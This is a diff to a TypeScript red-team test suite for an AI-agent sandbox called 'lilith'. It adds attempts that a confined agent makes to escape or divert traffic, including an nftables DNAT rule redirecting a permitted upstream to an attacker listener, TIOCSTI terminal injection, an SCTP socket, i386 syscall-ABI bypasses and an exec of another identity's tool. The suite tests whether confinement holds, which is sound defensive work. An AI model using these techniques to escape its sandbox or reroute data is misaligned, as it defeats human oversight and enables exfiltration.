@@ -2,12 +2,14 @@
 // enforcer (kernel programs in cgroup-only mode on this host, the dataplane,
 // lilith run confinement) and judged by what actually happened: did the data
 // reach the attacker's listener, did the syscall fail, is the daemon alive.
-import { existsSync, readFileSync } from 'node:fs';
+import { existsSync, readFileSync, writeFileSync } from 'node:fs';
+import { connect, createServer, type AddressInfo } from 'node:net';
 import { dirname, join } from 'node:path';
 import { fileURLToPath } from 'node:url';
 import { adminGet } from '../enforcer/daemon/index.js';
 import type { RedteamEnv } from './env.js';
 import { AttemptHung } from './hang.js';
+import { runBounded } from './hang.js';
 import { runInPty } from './pty.js';
 import { TLS_ATTEMPTS } from './tls-attempts.js';
 
@@ -88,19 +90,11 @@ async function terminalInjection(env: RedteamEnv): Promise<Outcome> {
   const details: string[] = [];
   let blocked = true;
   for (const attempt of ['tiocsti', 'tiocsti_hibits']) {
-    const r = await runInPty([
-      process.execPath,
-      CLI,
-      'run',
-      '--socket',
-      env.adminSocket,
-      '--agent',
-      'coder',
-      '--',
-      env.escapeProbe,
-      attempt,
-      command,
-    ]);
+    const r = await runInPty(
+      [process.execPath, CLI, 'run', '--socket', env.adminSocket, '--agent', 'coder', '--', env.escapeProbe, attempt, command],
+      process.env,
+      env.commandTimeoutMs,
+    );
     const probe = new RegExp(`\\{"attempt":"${attempt}","ok":(true|false),"errno":\\d+,"error":"([^"]*)"\\}`).exec(r.output);
     const failed = probe?.[1] === 'false';
     if (!failed || r.typed !== '') blocked = false;
@@ -110,6 +104,106 @@ async function terminalInjection(env: RedteamEnv): Promise<Outcome> {
     );
   }
   return { blocked, detail: details.join('; ') };
+}
+
+const NFT = '/usr/sbin/nft';
+
+/** Connects from this (unmanaged) process, as the proxy dials an upstream: true once connected. */
+function dial(host: string, port: number): Promise<boolean> {
+  return new Promise((resolve) => {
+    const s = connect({ host, port }, () => {
+      s.destroy();
+      resolve(true);
+    });
+    s.on('error', () => resolve(false));
+    s.setTimeout(3000, () => {
+      s.destroy();
+      resolve(false);
+    });
+  });
+}
+
+/** nft's own complaint, not lilith run's warnings before it. */
+const nftError = (stderr: string): string =>
+  (
+    stderr
+      .trim()
+      .split('\n')
+      .filter((l) => !l.startsWith('lilith'))
+      .at(-1) ?? ''
+  )
+    .trim()
+    .slice(0, 160);
+
+/** Whether an nftables table exists, asked from outside the agent. */
+async function nftTableExists(table: string): Promise<boolean> {
+  return (await runBounded(NFT, ['list', 'table', 'ip', table])).code === 0;
+}
+
+/**
+ * The agent (root, under lilith run) runs the real nft to add a DNAT rule in the
+ * nat output hook rewriting a permitted upstream (a listener of ours) to the
+ * attacker's listener: the proxy would decide and audit the upstream while its
+ * bytes went to the attacker. A control run of the same ruleset outside the
+ * agent proves the rule would work on this kernel (it is removed at once).
+ * Blocked when the agent's nft failed, no table exists afterwards (checked with
+ * nft from outside) and a dial of the upstream still reaches the upstream. Any
+ * table the attempt leaves is deleted: no host state survives it.
+ */
+async function nftDnat(env: RedteamEnv): Promise<Outcome> {
+  if (!existsSync(NFT))
+    return { blocked: false, detail: `${NFT} is missing (Debian package nftables, scripts/apt-packages.txt): the attempt cannot run` };
+  const table = `lilith_redteam_${process.pid}`;
+  let upstreamHits = 0;
+  const upstream = createServer((c) => {
+    upstreamHits++;
+    c.destroy();
+  });
+  const upstreamHost = '127.0.0.3';
+  await new Promise<void>((r) => upstream.listen(0, upstreamHost, r));
+  const upstreamPort = (upstream.address() as AddressInfo).port;
+  const ruleset = join(dirname(env.copiedBinary), `dnat-${process.pid}.nft`);
+  writeFileSync(
+    ruleset,
+    `table ip ${table} {\n  chain out {\n    type nat hook output priority -100; policy accept;\n` +
+      `    ip daddr ${upstreamHost} tcp dport ${upstreamPort} dnat to ${env.exfil.host4}:${env.exfil.tcpPort}\n  }\n}\n`,
+  );
+  const cleanup = async () => {
+    if (await nftTableExists(table)) await runBounded(NFT, ['delete', 'table', 'ip', table]);
+  };
+  try {
+    // Control: the ruleset works on this kernel when nothing confines the caller.
+    const control = await runBounded(NFT, ['-f', ruleset]);
+    let controlNote: string;
+    if (control.code === 0) {
+      const before = env.exfil.received('tcp');
+      await dial(upstreamHost, upstreamPort);
+      await env.sleep(100);
+      const diverted = env.exfil.received('tcp') > before;
+      await cleanup();
+      controlNote = `control: unconfined nft added the rule${diverted ? ' and it diverted a dial to the attacker' : ' (no diversion seen)'}`;
+    } else {
+      controlNote = `control: nft cannot add the table unconfined either on this kernel (${nftError(control.stderr)}): no nf_tables here, nothing to divert`;
+    }
+    const attempt = await env.runConfined([NFT, '-f', ruleset]);
+    const added = await nftTableExists(table);
+    const before = { upstream: upstreamHits, attacker: env.exfil.received('tcp') };
+    const reached = await dial(upstreamHost, upstreamPort);
+    await env.sleep(100);
+    const toUpstream = upstreamHits > before.upstream;
+    const toAttacker = env.exfil.received('tcp') > before.attacker;
+    const failed = attempt.code !== 0;
+    return {
+      blocked: failed && !added && reached && toUpstream && !toAttacker,
+      detail:
+        `agent's nft ${failed ? `failed (exit ${attempt.code}: ${nftError(attempt.stderr)})` : 'succeeded'}; ` +
+        `nft list from outside: ${added ? `table ${table} EXISTS` : 'no table'}; the upstream dial went to ` +
+        `${toAttacker ? 'the ATTACKER' : toUpstream ? 'the permitted upstream' : 'nowhere'}; ${controlNote}`,
+    };
+  } finally {
+    await cleanup();
+    upstream.close();
+  }
 }
 
 /** Process state letter from /proc/PID/stat ('T' = stopped). */
@@ -251,7 +345,7 @@ export const ATTEMPTS: Attempt[] = [
     what: "exec a binary allowlisted for another identity (the native agent runs the coder's tool)",
     layer: 'kernel (BPF-LSM)',
     expect: 'vm-only',
-    note: 'per-registration exec_allowlist, lil_exec_id keyed by (identity, inode): bprm_check_security',
+    note: 'per-registration exec_allowlist, lil_exec_id keyed by (identity, inode): bprm_check_security. Without BPF-LSM (this host) a managed process outside lilith run is not stopped; under lilith run Landlock is (exec-other-identity-confined)',
     async run(env) {
       const ranAs = async (agent: 'coder' | 'native') =>
         (await env.probeInAgent(['exec', env.coderOnlyBinary, 'pid'], agent)).some((l) => l.op === 'pid' && l.ok);
@@ -260,6 +354,25 @@ export const ATTEMPTS: Attempt[] = [
       return {
         blocked: coder && !native,
         detail: `the coder ${coder ? 'ran it' : 'could not run it either (control failed)'}; the native agent ${native ? 'ran it' : 'was refused'}`,
+      };
+    },
+  },
+  {
+    id: 'exec-other-identity-confined',
+    what: "under lilith run, the native agent execs the coder's allowlisted tool",
+    layer: 'landlock',
+    expect: 'blocked',
+    note: "the tool lives under a root only the coder's registration lists: Landlock refuses the exec on any kernel; with BPF-LSM the per-identity exec allowlist refuses it too (exec-other-identity)",
+    async run(env) {
+      const ran = async (agent: 'coder' | 'native') => {
+        const r = await env.runConfined([env.coderOnlyBinary, 'pid'], undefined, agent);
+        return { ok: /"op":"pid","ok":true/.test(r.stdout), why: r.stderr.trim().split('\n').at(-1)?.slice(0, 160) ?? '' };
+      };
+      const coder = await ran('coder');
+      const native = await ran('native');
+      return {
+        blocked: coder.ok && !native.ok,
+        detail: `the coder ${coder.ok ? 'ran it' : `could not run it either (control failed: ${coder.why})`}; the native agent ${native.ok ? 'ran it' : `was refused (${native.why})`}`,
       };
     },
   },
@@ -366,6 +479,14 @@ export const ATTEMPTS: Attempt[] = [
     },
   },
   {
+    id: 'nft-dnat',
+    what: "add an nftables DNAT rule with the real nft (as root under lilith run) rewriting a permitted upstream to the attacker's listener",
+    layer: 'seccomp',
+    expect: 'blocked',
+    note: 'NETLINK_NETFILTER sockets are EPERM under seccomp, and the agent holds no CAP_NET_ADMIN; judged by nft list ruleset from outside and by where a dial of the upstream lands',
+    run: nftDnat,
+  },
+  {
     id: 'netlink-netfilter',
     what: 'open a NETLINK_NETFILTER socket (the way to add an nftables DNAT rule)',
     layer: 'seccomp',
@@ -375,6 +496,36 @@ export const ATTEMPTS: Attempt[] = [
       const outcome = await confinedProbe(env, 'netlink', '12');
       if (!outcome.blocked || outcome.errno === EPERM) return outcome;
       return { blocked: false, detail: `${outcome.detail}: not seccomp's EPERM, the socket() call got past the filter` };
+    },
+  },
+  {
+    id: 'sctp-socket',
+    what: 'open an SCTP socket (any inet protocol number loads its module on demand: SCTP, DCCP, ...)',
+    layer: 'seccomp',
+    expect: 'blocked',
+    note: 'seccomp allows inet sockets for protocol 0, TCP, UDP and MPTCP only; EPERM at syscall entry, before any module autoload',
+    async run(env) {
+      const outcome = await confinedProbe(env, 'socket_proto', '132');
+      if (!outcome.blocked || outcome.errno === EPERM) return outcome;
+      return { blocked: false, detail: `${outcome.detail}: not seccomp's EPERM, the kernel went on to look for the protocol` };
+    },
+  },
+  {
+    id: 'ia32-syscalls',
+    what: 'TIOCSTI and socket() through the i386 syscall ABI (int $0x80 from a 64-bit agent)',
+    layer: 'seccomp',
+    expect: 'blocked',
+    note: 'the filter admits the native ABI only; any other kills the agent (SIGSYS) before the kernel runs the call',
+    async run(env) {
+      const details: string[] = [];
+      let blocked = true;
+      for (const attempt of ['ia32_tiocsti', 'ia32_socket']) {
+        const outcome = await confinedProbe(env, attempt, 'id');
+        const killed = /killed by signal 31/.test(outcome.detail);
+        if (!outcome.blocked || !killed) blocked = false;
+        details.push(`${attempt}: ${outcome.detail}`);
+      }
+      return { blocked, detail: details.join('; ') };
     },
   },
   {
